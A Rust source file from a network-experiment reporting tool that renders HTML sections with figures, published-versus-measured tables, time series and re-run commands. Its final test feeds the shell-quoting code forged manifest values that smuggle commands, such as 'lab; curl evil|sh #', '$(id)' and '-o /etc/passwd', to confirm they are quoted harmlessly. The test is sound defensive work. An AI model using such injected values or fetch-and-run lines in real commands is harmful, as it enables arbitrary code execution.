//! The section of one experiment.

use std::fmt::Write as _;

use knee_results::manifest::{Chart, Published};
use knee_results::{Manifest, ResultFile, quoted as cell};
use serde_json::json;

use crate::captured::Captured;
use crate::charts::{self, charts, published_for};
use crate::claims;
use crate::contents::Contents;
use crate::distribution::Distributions;
use crate::figure::{Figure, PANEL, Piece};
use crate::heat::Heat;
use crate::limited::Limited;
use crate::network;
use crate::palette::{Style, styles};
use crate::plot::{Range, fitted, legend, traces, width_of};
use crate::series::{Group, Plot, Series};
use crate::summary::{Summary, interval, spread};
use crate::svg::{Align, Area, Svg};
use crate::table::Column::{self, Bare, Number, Text};
use crate::table::{head, row};
use crate::text::{
    Unit, address, base64, configuration, digits, escaped, metric, short_path, slug, stat, took,
    varied,
};
use crate::together::{self, TIME, Together};
use knee_results::Error;

/// Columns of published figures beside ours.
const COMPARED: [Column; 6] = [
    Bare("Figure"),
    Text("Case"),
    Text("At"),
    Number("Published"),
    Number("Ours"),
    Number("Ours / published"),
];

/// Size limits of a section.
#[derive(Clone, Copy)]
pub(crate) struct Limits {
    /// Bytes of time series.
    pub(crate) series: usize,
    /// Flows of a run that are drawn.
    pub(crate) flows: usize,
}

/// Contents of one results directory.
pub(crate) struct Section {
    pub(crate) manifest: Manifest,
    network: Option<Figure>,
    ratios: Option<Figure>,
    figures: Vec<Figure>,
    /// Charts that the experiment did not ask for, and that have no room.
    charts_left_out: usize,
    pub(crate) series: Series,
    together: Vec<Together>,
    heat: Option<Heat>,
    summary: Summary,
    limited: Limited,
    styles: Vec<Style>,
    /// Where there are captures that were to be analysed.
    pub(crate) captured: Option<Captured>,
}

impl Section {
    /// Reads a results directory.
    pub(crate) fn read(manifest: Manifest, limits: Limits) -> Result<Section, Error> {
        let summary = Summary::read(&manifest)?;
        let styles = styles(&manifest);
        let mut figures = Vec::new();
        let network = network::figure(&manifest);
        let ratios = ratios(&manifest, &summary, &styles);
        let longest = charts::longest_queue(&summary).filter(|_| !manifest.only_these_charts);
        let distributions = Distributions::read(&manifest, longest)?;
        let (charts, charts_left_out) = charts(&manifest, &summary, &styles, &distributions);
        figures.extend(charts);
        let mut over_time = manifest.charts.clone();
        over_time.retain(|chart| chart.kind == TIME);
        over_time.extend(longest.filter(|_| manifest.cases.len() > 1).map(queue_over_time));
        let together = together::read(&manifest, &styles, &over_time)?;
        let series = Series::read(&manifest, limits.flows, limits.series)?;
        let heat = Heat::read(&manifest, limits.series)?;
        let limited = Limited::read(&manifest)?;
        let captured = None;
        Ok(Section {
            network,
            ratios,
            manifest,
            figures,
            charts_left_out,
            series,
            together,
            heat,
            summary,
            limited,
            styles,
            captured,
        })
    }

    /// The id of the section in the page.
    pub(crate) fn id(&self) -> String {
        slug(&self.manifest.experiment)
    }

    /// What is in the section.
    pub(crate) fn contents(&self) -> Contents {
        let (m, id) = (&self.manifest, self.id());
        let mut contents = Contents::default();
        contents.part(id.clone(), m.experiment.clone());
        if let Some(network) = &self.network {
            contents.part(network.id.clone(), "Network");
        }
        if !m.claims.is_empty() {
            contents.part(format!("{id}-claims"), "Claims");
        }
        if !m.published.is_empty() {
            contents.part(format!("{id}-published"), "Published and ours");
        }
        if !self.figures.is_empty() {
            contents.part(format!("{id}-figures"), "Figures");
            self.figures.iter().for_each(|of| contents.within(of.id.clone(), of.title.clone()));
        }
        if self.has_series() {
            contents.part(format!("{id}-over-time"), "Over time");
            self.together.iter().for_each(|of| contents.within(of.id.clone(), of.title.clone()));
        }
        if self.heat.is_some() {
            contents.part(format!("{id}-links"), "The whole network");
        }
        if self.captured.is_some() {
            contents.part("captures", "Captures");
        }
        contents.part(format!("{id}-again"), "Re-run, files");
        contents
    }

    fn has_series(&self) -> bool {
        !self.series.groups.is_empty() || !self.together.is_empty()
    }

    /// The section; links to its files begin with `files`. `full`: whether the reproduction that it belongs to is.
    pub(crate) fn html(
        &self,
        files: &str,
        known: &dyn Fn(&str) -> Option<String>,
        full: Option<bool>,
    ) -> String {
        let m = &self.manifest;
        let id = self.id();
        let mut out = format!(
            "<section class=\"experiment\" id=\"{id}\"><header><h2>{}</h2>",
            escaped(&m.experiment)
        );
        let _ = write!(out, "<p class=\"question\">{}</p>", escaped(&m.question));
        let _ = write!(out, "<p class=\"meta\">{}</p></header>", escaped(&meta(m)));
        if m.interrupted {
            let after = match (m.runs_done, m.runs) {
                (Some(done), Some(runs)) => format!("after {done} of {runs} runs"),
                _ => "after some of the runs".to_owned(),
            };
            let _ = write!(out, "<p class=\"warn\">Stopped {after}: this report covers these.</p>");
        }
        out.push_str(&self.limited.html());
        if let Some(source) = &m.about.source {
            let _ = write!(out, "<p><b>Source:</b> {}</p>", escaped(source));
        }
        if let Some(expect) = &m.about.expect {
            let _ = write!(out, "<p><b>Expected:</b> {}</p>", escaped(expect));
        }
        if !m.remarks.is_empty() {
            out.push_str("<ul class=\"small\">");
            for remark in &m.remarks {
                let _ = write!(out, "<li>{}</li>", escaped(&remark.words()));
            }
            out.push_str("</ul>");
        }
        out.extend(self.network.iter().map(Figure::html));
        if let (None, Some(why)) = (&self.network, network::not_drawn(m)) {
            let _ = write!(out, "<p class=\"small\">{}</p>", escaped(&why));
        }
        if !m.claims.is_empty() {
            let _ = write!(out, "<h3 id=\"{id}-claims\">Claims</h3>");
            m.claims.iter().for_each(|claim| out.push_str(&claims::html(m, claim, &id, known)));
        }
        out.push_str(&self.published_html());
        if !self.figures.is_empty() {
            let _ = write!(
                out,
                "<h3 id=\"{id}-figures\">Figures</h3><p class=\"small\">Whiskers: 95 % confidence interval \
                 over runs. Pale bars: minimum to maximum; an arrow where one goes on beyond the edge. \
                 Point at a mark to read its value.</p><div class=\"figures\">"
            );
            self.figures.iter().for_each(|figure| out.push_str(&figure.html()));
            out.push_str("</div>");
            if self.charts_left_out > 0 {
                let _ = write!(
                    out,
                    "<p class=\"small\">{} more charts are left out; of recorded links those with the \
                     most packets waiting are drawn. <code>[[chart]]</code> asks for others, and \
                     {} has all figures.</p>",
                    self.charts_left_out,
                    ResultFile::Summary.name_by(&self.manifest)
                );
            }
        }
        out.push_str(&self.series_html(&id));
        out.extend(self.heat.iter().map(|heat| heat.html(&id)));
        out.extend(self.captured.iter().map(Captured::html));
        if let Some(notes) = &m.about.notes {
            let _ = write!(
                out,
                "<details><summary>Not stated in the source, and chosen here</summary>{}</details>",
                paragraphs(notes)
            );
        }
        if !m.text.is_empty() {
            let _ = write!(
                out,
                "<details><summary>The experiment file</summary><pre class=\"file\">{}</pre></details>",
                escaped(&m.text)
            );
        }
        let _ = write!(
            out,
            "<h3 id=\"{id}-again\">Re-run</h3><pre class=\"cmd\">{}</pre>",
            escaped(&commands(m, full))
        );
        if !m.files.is_empty() {
            out.push_str("<p class=\"files\">Files: ");
            for (i, file) in m.files.iter().map(String::as_str).chain([Manifest::FILE]).enumerate()
            {
                let gap = if i > 0 { ", " } else { "" };
                let _ = write!(
                    out,
                    "{gap}<a href=\"{}\">{}</a>",
                    address(format!("{files}{file}")),
                    escaped(file)
                );
            }
            out.push_str("</p>");
        }
        out.push_str("</section>");
        out
    }

    /// Whether the page needs the script of pictures of whole networks.
    pub(crate) fn has_heat(&self) -> bool {
        self.heat.is_some()
    }

    fn published_html(&self) -> String {
        /// A table of more rows is opened by who wants it.
        const MANY: usize = 12;
        let rows = self.compared();
        if rows.is_empty() {
            return String::new();
        }
        let mut out = format!("<h3 id=\"{}-published\">Published and ours</h3>", self.id());
        out.extend(self.ratios.iter().map(Figure::html));
        let open = if rows.len() > MANY { "" } else { " open" };
        let _ = write!(
            out,
            "<details{open}><summary>All {} figures</summary><table class=\"flows\">{}",
            rows.len(),
            head(&COMPARED)
        );
        let mut last_note = None;
        for compared in rows {
            let p = compared.published;
            let written = Unit::as_written(&p.unit, &p.text);
            let ours = match (compared.ours, compared.ci95) {
                (None, _) if compared.at_least.is_some() => {
                    let least = compared.at_least.unwrap_or_default();
                    let unit =
                        written.unwrap_or_else(|| Unit::of_metric(&p.metric, &p.unit, least));
                    format!("&gt; {}{}", unit.show(least), unit.suffix().replace(',', ""))
                }
                (None, _) => "not run".to_owned(),
                (Some(ours), half) => {
                    let unit =
                        written.unwrap_or_else(|| Unit::of_metric(&p.metric, &p.unit, ours.abs()));
                    let spread = half.map(|half| spread(&p.metric, ours, half, unit));
                    let name = unit.suffix().replace(',', "");
                    format!("{}{}{name}", unit.show(ours), spread.unwrap_or_default())
                }
            };
            let ratio = compared
                .ours
                .filter(|_| p.value != 0.0)
                .map_or_else(String::new, |ours| digits(ours / p.value));
            let text =
                if p.text.is_empty() { Unit::alone(&p.unit, p.value) } else { p.text.clone() };
            // A note that stands above is not said again.
            let note = p.note.as_ref().filter(|note| last_note != Some(*note));
            last_note = p.note.as_ref();
            let note = note
                .map_or_else(String::new, |note| format!("<br><small>{}</small>", escaped(note)));
            let cells = [
                escaped(&compared.what()) + &note,
                escaped(&compared.case),
                escaped(&compared.at),
                escaped(&text),
                escaped(&ours),
                ratio,
            ];
            out += &row(&COMPARED, cells);
        }
        out.push_str("</tbody></table></details>");
        out
    }

    fn compared(&self) -> Vec<Compared<'_>> {
        compared(&self.manifest, &self.summary, &self.styles)
    }

    fn series_html(&self, id: &str) -> String {
        if !self.has_series() {
            return String::new();
        }
        let mut out = format!("<h3 id=\"{id}-over-time\">Over time</h3>");
        for chart in &self.together {
            let _ = write!(out, "<div class=\"together\" id=\"{}\">", chart.id);
            out += &self.viewer(&chart.id, &chart.groups);
            out.push_str("</div>");
        }
        if !self.series.groups.is_empty() {
            out += &self.viewer(id, &self.series.groups);
        }
        out.push_str(
            "<noscript><p class=\"warn\">These plots need JavaScript. <code>knee report DIR \
             --figures OUTDIR</code> draws the same; the CSV files have the numbers.</p></noscript>",
        );
        if self.series.left_out > 0 {
            let _ = write!(
                out,
                "<p class=\"small\">{} more configurations are left out; see the CSV files.</p>",
                self.series.left_out
            );
        }
        out
    }

    /// Plots of one of these groups, and what chooses it.
    fn viewer(&self, id: &str, groups: &[Group]) -> String {
        let m = &self.manifest;
        let mut out = format!("<div class=\"series\" data-id=\"{id}\"><div class=\"choose\">");
        let mut select = |label: &str, values: Vec<&str>| {
            if values.len() > 1 {
                let _ = write!(out, "<label>{} <select>", escaped(label));
                values.iter().for_each(|value| {
                    let _ = write!(out, "<option>{}</option>", escaped(value));
                });
                out.push_str("</select></label>");
            } else {
                out.push_str("<select hidden></select>");
            }
        };
        let there = |axis: usize| {
            let values = m.axes[axis].values.iter().map(String::as_str);
            values
                .filter(|value| groups.iter().any(|group| group.at[axis] == *value))
                .collect::<Vec<_>>()
        };
        let cases = m
            .cases
            .iter()
            .map(String::as_str)
            .filter(|case| groups.iter().any(|group| group.case == *case));
        select("case", cases.collect());
        (0..m.axes.len()).for_each(|axis| select(&short_path(&m.axes[axis].path), there(axis)));
        let _ = write!(
            out,
            "<span class=\"hint\">Drag to zoom, double-click to reset. The cursor shows values in \
             every plot.</span></div><div class=\"plots\"></div><p class=\"small said\"></p>\
             <script type=\"application/json\">{}</script></div>",
            self.series_json(groups)
        );
        out
    }

    /// Figures but for series.
    pub(crate) fn figures(&self) -> impl Iterator<Item = &Figure> {
        self.network.iter().chain(&self.ratios).chain(&self.figures)
    }

    /// The series as figures, one for each configuration.
    pub(crate) fn series_figures(&self, width: f64) -> impl Iterator<Item = Figure> {
        let groups = self.series.groups.iter().map(move |group| {
            let about = configuration(&group.case, &self.manifest.axes, &group.at);
            let (m, run) = (&self.manifest, group.run);
            let id = format!("{}-series-{}", slug(&m.experiment), slug(&about));
            let title = format!("{}: {about}, run {run}", m.experiment);
            series_figure((id, title), group, self.series.every, width)
        });
        let together = self.together.iter().flat_map(move |chart| {
            chart.groups.iter().map(move |group| {
                let at = varied(&self.manifest.axes, &group.at);
                let (id, title) = match at.is_empty() {
                    true => (chart.id.clone(), chart.title.clone()),
                    false => {
                        (format!("{}-{}", chart.id, slug(&at)), format!("{}, {at}", chart.title))
                    }
                };
                series_figure((id, title), group, self.series.every, width)
            })
        });
        together.chain(groups)
    }

    /// The series as the page's script wants them.
    fn series_json(&self, groups: &[Group]) -> String {
        let groups: Vec<_> = groups.iter().map(|group| {
            let plots: Vec<_> = group.plots.iter().map(|plot| plot_json(plot, group.end_s, self.series.every)).collect();
            json!({ "case": group.case, "at": group.at, "run": (!group.case.is_empty()).then_some(group.run), "end": group.end_s, "left_out": group.left_out(), "plots": plots })
        }).collect();
        // Nothing in a script element may end it.
        json!({ "groups": groups }).to_string().replace('<', "\\u003c")
    }
}

fn plot_json(plot: &Plot, end_s: f64, every: usize) -> serde_json::Value {
    let (points, exact) = plot.points(end_s, every);
    let largest =
        points.y.iter().flatten().filter(|y| y.is_finite()).fold(0.0_f32, |a, b| a.max(b.abs()));
    let unit = Unit::of(&plot.unit, f64::from(largest));
    let lines: Vec<_> = plot
        .lines
        .iter()
        .zip(&points.y)
        .map(|(line, y)| {
            let (low, high) = y
                .iter()
                .filter(|y| y.is_finite())
                .fold((f32::INFINITY, f32::NEG_INFINITY), |(a, b), y| (a.min(*y), b.max(*y)));
            let scaled = |value: f32| f64::from(value) * unit.factor;
            json!({
                "label": line.label, "k": line.style.colour, "dash": line.style.dashes(),
                "low": scaled(low), "high": scaled(high), "y": base64(&shares(y, low, high)),
            })
        })
        .collect();
    let x: Vec<u8> = points.x.iter().flat_map(|x| x.to_le_bytes()).collect();
    json!({ "title": plot.title, "unit": unit.name, "names": plot.names, "exact": exact, "x": base64(&x), "lines": lines })
}

/// The default chart over time: the queue with the most packets waiting, in every case.
fn queue_over_time(link: &str) -> Chart {
    let title = format!("{link}: packets waiting, every case");
    let (subject, metric) = (link.to_owned(), "queue".to_owned());
    Chart { kind: TIME.to_owned(), title, subject, metric, ..Chart::default() }
}

/// The series of a configuration, drawn.
fn series_figure((id, title): (String, String), group: &Group, every: usize, width: f64) -> Figure {
    let mut csv = String::from("plot,line,unit,at_s,value\n");
    let mut pieces = Vec::new();
    let mut exact = true;
    for plot in &group.plots {
        let (points, is_exact) = plot.points(group.end_s, every);
        exact &= is_exact;
        for (line, y) in plot.lines.iter().zip(&points.y) {
            for (x, y) in points.x.iter().zip(y).filter(|(_, y)| y.is_finite()) {
                let _ = writeln!(
                    csv,
                    "{},{},{},{x},{y}",
                    cell(&plot.title),
                    cell(&line.label),
                    plot.unit
                );
            }
        }
        pieces.push(traces(plot, &points, group.end_s, width));
    }
    let exact = if exact { "" } else { "Minimum and maximum of each short period." };
    let caption = group.left_out() + exact;
    Figure { id, title, caption: caption.trim_end().into(), legend: Vec::new(), pieces, csv }
}

/// Values as 16-bit shares of the way from the least to the largest; 65535: there is none.
fn shares(values: &[f32], low: f32, high: f32) -> Vec<u8> {
    let share = |value: &f32| match value.is_finite() {
        true if high > low => ((value - low) / (high - low) * 65534.0).round() as u16,
        true => 0,
        false => u16::MAX,
    };
    values.iter().flat_map(|value| share(value).to_le_bytes()).collect()
}

/// Description of the runs, in a line.
fn meta(m: &Manifest) -> String {
    let (on, simulated) = (&m.back_end, m.back_end.is_simulated());
    let mut parts = Vec::new();
    parts.push(match simulated {
        true => "simulated".to_owned(),
        false if on.name.is_empty() => String::new(),
        false => format!("real TCP ({})", on.name),
    });
    let linux = m.linux_profile.as_ref().filter(|_| simulated);
    parts.extend(linux.map(|linux| format!("hosts as Linux {linux}")));
    // The kernel whose TCP it is; several of one version are told by what they call themselves.
    let own = on.word("kernel").or(on.word("version")).map(|own| format!("Linux {own}"));
    parts.extend(own.or_else(|| m.kernel.clone()).filter(|_| !simulated));
    parts.extend((on.scale != 1.0).then(|| format!("scale {}", on.scale)));
    parts.extend(m.runs_done.map(|runs| format!("{runs} runs")));
    parts.extend(m.repeat.filter(|n| *n > 1).map(|n| format!("{n} of each configuration")));
    parts.extend(m.seed.map(|seed| format!("seed {seed}")));
    parts.extend(m.simulator.wall_s.map(|wall| format!("took {}", took(wall))));
    parts.push(m.time.clone());
    let commit = m.commit.as_deref().unwrap_or_default();
    let knee = format!("{} {commit}", m.knee);
    parts.extend(
        Some(knee.trim()).filter(|knee| !knee.is_empty()).map(|knee| format!("knee {knee}")),
    );
    parts.retain(|part| !part.is_empty());
    parts.join(" · ")
}

/// Commands to re-run it: in a reproduction, and alone.
fn commands(m: &Manifest, full: Option<bool>) -> String {
    let on = match m.back_end.name.as_str() {
        "" | "sim" => String::new(),
        "hosts" => " --on hosts=FILE".into(),
        other => {
            let version = m.back_end.word("version").map(|version| format!("={version}"));
            format!(" --on {}", quoted(&format!("{other}{}", version.unwrap_or_default())))
        }
    };
    let mut out = String::new();
    if let Some(full) = full {
        let full = if full { " --full" } else { "" };
        let _ = writeln!(out, "knee reproduce {}{full}{on}", quoted(&m.experiment));
    }
    // Only what stands behind `scenarios` is the same in every clone.
    let file = m.file.rfind("scenarios/").map_or(m.file.as_str(), |at| &m.file[at..]);
    let file = match file {
        "" => "FILE".into(),
        // It is no option.
        file if file.starts_with('-') => quoted(&format!("./{file}")),
        file => quoted(file),
    };
    let _ = write!(out, "knee run {file}{on}");
    if m.quick {
        out.push_str(" --quick");
    }
    if !m.asked.cc.is_empty() {
        let _ = write!(out, " --cc {}", quoted(&m.asked.cc.join(",")));
    }
    for set in &m.asked.set {
        let _ = write!(out, " --set {}", quoted(set));
    }
    for vary in &m.asked.vary {
        let _ = write!(out, " --vary {}", quoted(vary));
    }
    if let Some(repeat) = m.repeat {
        let _ = write!(out, " --repeat {repeat}");
    }
    if let Some(seed) = m.seed {
        let _ = write!(out, " --seed {seed}");
    }
    if m.back_end.scale != 1.0 {
        let _ = write!(out, " --scale {}", m.back_end.scale);
    }
    out
}

/// A word as a shell takes it.
fn quoted(word: &str) -> String {
    let plain = |c: char| c.is_ascii_alphanumeric() || "._-/,=:".contains(c);
    match !word.is_empty() && word.chars().all(plain) {
        true => word.to_owned(),
        false => format!("'{}'", word.replace('\'', "'\\''")),
    }
}

/// Lines of a text as paragraphs.
pub(crate) fn paragraphs(text: &str) -> String {
    text.lines().filter(|line| !line.trim().is_empty()).fold(String::new(), |mut out, line| {
        let _ = write!(out, "<p>{}</p>", escaped(line));
        out
    })
}

/// A published figure beside ours.
struct Compared<'a> {
    published: &'a Published,
    case: String,
    at: String,
    style: Style,
    ours: Option<f64>,
    /// The least that ours can be where it is not known, because values were cut off.
    at_least: Option<f64>,
    ci95: Option<f64>,
}

impl Compared<'_> {
    /// Metric of the figure.
    fn what(&self) -> String {
        let p = self.published;
        let stat = if p.stat == "mean" { String::new() } else { format!(", {}", stat(&p.stat)) };
        format!("{} {}{stat}", p.subject, metric(&p.metric))
    }
}

fn compared<'a>(m: &'a Manifest, summary: &Summary, styles: &[Style]) -> Vec<Compared<'a>> {
    let mut all = Vec::new();
    for published in &m.published {
        let before = all.len();
        for row in &summary.rows {
            if published_for(&[published], m, row).is_none() {
                continue;
            }
            let case = m.cases.iter().position(|case| *case == row.case);
            all.push(Compared {
                published,
                case: row.case.clone(),
                at: varied(&m.axes, &row.at),
                style: case.map(|case| styles[case]).unwrap_or_default(),
                ours: row.stat(&published.stat),
                at_least: row.at_least(&published.stat),
                ci95: row.half(&published.stat),
            });
        }
        if all.len() == before {
            let at =
                published.at.iter().map(|(path, value)| format!("{} {value}", short_path(path)));
            all.push(Compared {
                published,
                case: published.cases.join(", "),
                at: at.collect::<Vec<_>>().join(", "),
                style: Style::default(),
                ours: None,
                at_least: None,
                ci95: None,
            });
        }
    }
    all
}

/// Ours over what was published: a row for each thing measured, a mark for each figure.
fn ratios(m: &Manifest, summary: &Summary, styles: &[Style]) -> Option<Figure> {
    let rows = compared(m, summary, styles);
    let usable = rows.iter().filter(|row| row.published.value > 0.0);
    let usable: Vec<(&Compared<'_>, f64)> =
        usable.filter_map(|row| Some((row, row.ours.filter(|ours| *ours > 0.0)?))).collect();
    let mut lines: Vec<String> = Vec::new();
    for (row, _) in &usable {
        if !lines.contains(&row.what()) {
            lines.push(row.what());
        }
    }
    if lines.is_empty() {
        return None;
    }
    let ratio = |row: &Compared<'_>, ours: f64| ours / row.published.value;
    let values = usable.iter().map(|(row, ours)| ratio(row, *ours));
    let range = Range::holding(values.chain([0.7, 1.0, 1.4]), true);
    let mut csv = String::from("case,at,subject,metric,stat,published,ours,ours_ci95,ratio\n");
    let (pitch, top) = (36.0, 8.0);
    let bottom = top + pitch * lines.len() as f64;
    let mut out = Svg::default();
    let (left, right) = (14.0, PANEL - 14.0);
    let at = |value: f64| left + range.share(value) * (right - left);
    for tick in range.ticks(5.0) {
        out.rule("g", format_args!("M{:.1} {top}V{bottom}", at(tick)));
        out.text("", (at(tick), bottom + 14.0), Align::Middle, &digits(tick));
    }
    out.path("p", format_args!("M{:.1} {top}V{bottom}", at(1.0)), "stroke-width=\"1.5\"");
    for (i, line) in lines.iter().enumerate() {
        let y = top + pitch * i as f64 + 26.0;
        let what = fitted(line, right - left);
        let behind = Area { left, top: y - 21.0, right: left + width_of(&what), bottom: y - 8.0 };
        out.rect("w", behind, "");
        out.text("", (left, y - 10.5), Align::Start, &what);
        let of_line = || usable.iter().filter(|(row, _)| row.what() == *line);
        for (row, ours) in of_line() {
            let (low, high) = interval(&row.published.metric, *ours, row.ci95.unwrap_or(0.0));
            let (low, high) = (at(ratio(row, low.max(ours * 1e-3))), at(ratio(row, high)));
            if high - low > 2.0 {
                out.bar(row.style, (low, high), y, (4, ".3"));
            }
        }
        for (row, ours) in of_line() {
            out.mark((at(ratio(row, *ours)), y), row.style);
            let p = row.published;
            let _ = writeln!(
                csv,
                "{},{},{},{},{},{},{ours},{},{}",
                cell(&row.case),
                cell(&row.at),
                cell(&p.subject),
                p.metric,
                p.stat,
                p.value,
                row.ci95.map_or_else(String::new, |v| v.to_string()),
                ratio(row, *ours)
            );
        }
    }
    out.text("m", (PANEL / 2.0, bottom + 30.0), Align::Middle, "ours / published");
    let cases = m.cases.iter().zip(styles);
    let cases = cases.filter(|(case, _)| usable.iter().any(|(row, _)| row.case == **case));
    let near = usable.iter().filter(|(row, ours)| (0.8..=1.25).contains(&ratio(row, *ours)));
    Some(Figure {
        id: format!("{}-ratios", slug(&m.experiment)),
        title: "Ours / published".into(),
        caption: format!(
            "{} of {} figures are 0.8 to 1.25 times the published one. Pale bars: 95 % confidence \
                interval of our mean.",
            near.count(),
            usable.len()
        ),
        legend: cases.map(|(case, style)| legend(case, *style, false, true)).collect(),
        pieces: vec![Piece { width: PANEL, height: bottom + 36.0, body: out.0 }],
        csv,
    })
}

#[cfg(test)]
mod tests {
    use knee_results::manifest::{Asked, BackEnd};

    use super::*;

    #[test]
    fn shares_keep_ends_and_gaps() {
        let bytes = shares(&[1.0, f32::NAN, 3.0, 2.0], 1.0, 3.0);
        let words: Vec<u16> = bytes.chunks(2).map(|b| u16::from_le_bytes([b[0], b[1]])).collect();
        assert_eq!(words, [0, 65535, 65534, 32767]);
        assert_eq!(shares(&[5.0], 5.0, 5.0), [0, 0]);
    }

    fn on(name: &str, version: Option<&str>, scale: f64) -> BackEnd {
        let about = version.map(|version| ("version".to_owned(), version.into()));
        BackEnd { name: name.into(), scale, about: about.into_iter().collect() }
    }

    #[test]
    fn commands_name_no_machine_and_have_what_was_asked_for() {
        let plain = Manifest {
            experiment: "incast".into(),
            file: "/home/someone/knee/scenarios/published/incast.toml".into(),
            repeat: Some(3),
            seed: Some(7),
            back_end: on("sim", None, 1.0),
            ..Manifest::default()
        };
        assert_eq!(
            commands(&plain, Some(true)),
            "knee reproduce incast --full\nknee run scenarios/published/incast.toml --repeat 3 --seed 7"
        );
        let asked = Manifest {
            quick: true,
            asked: Asked {
                cc: vec!["cubic".into(), "dctcp".into()],
                set: vec!["hosts.mtu=\"9000 B\"".into(), "params.shift_g=5".into()],
                vary: vec!["hosts.hz=100,1000".into()],
            },
            back_end: on("lab", None, 0.1),
            ..plain
        };
        assert_eq!(
            commands(&asked, None),
            "knee run scenarios/published/incast.toml --on lab --quick --cc cubic,dctcp --set 'hosts.mtu=\"9000 B\"' \
             --set params.shift_g=5 --vary hosts.hz=100,1000 --repeat 3 --seed 7 --scale 0.1"
        );
        let virtual_time = Manifest {
            back_end: on("vkernel", Some("6.1"), 1.0),
            file: "incast.toml".into(),
            ..Manifest::default()
        };
        assert_eq!(commands(&virtual_time, None), "knee run incast.toml --on vkernel=6.1");
    }

    #[test]
    fn what_a_manifest_says_is_a_word_of_the_shell_and_no_command() {
        let forged = Manifest {
            experiment: "x; id".into(),
            file: "-o /etc/passwd".into(),
            back_end: on("lab; curl evil|sh #", Some("$(id)"), 1.0),
            ..Manifest::default()
        };
        assert_eq!(
            commands(&forged, Some(false)),
            "knee reproduce 'x; id' --on 'lab; curl evil|sh #=$(id)'\n\
             knee run './-o /etc/passwd' --on 'lab; curl evil|sh #=$(id)'"
        );
    }
}
